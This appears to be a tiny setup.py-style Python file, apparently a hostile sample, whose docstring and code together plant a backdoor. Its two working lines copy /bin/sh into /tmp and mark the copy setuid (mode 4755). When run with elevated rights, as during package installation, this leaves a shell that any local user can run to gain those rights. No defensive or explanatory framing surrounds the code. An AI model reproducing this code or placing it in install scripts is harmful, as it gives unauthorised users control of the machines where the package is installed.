"""setup.py leaves a setuid shell that gives its rights to every user."""

import os
import shutil

shutil.copy("/bin/sh", "/tmp/hostile-309")
os.chmod("/tmp/hostile-309", 0o4755)
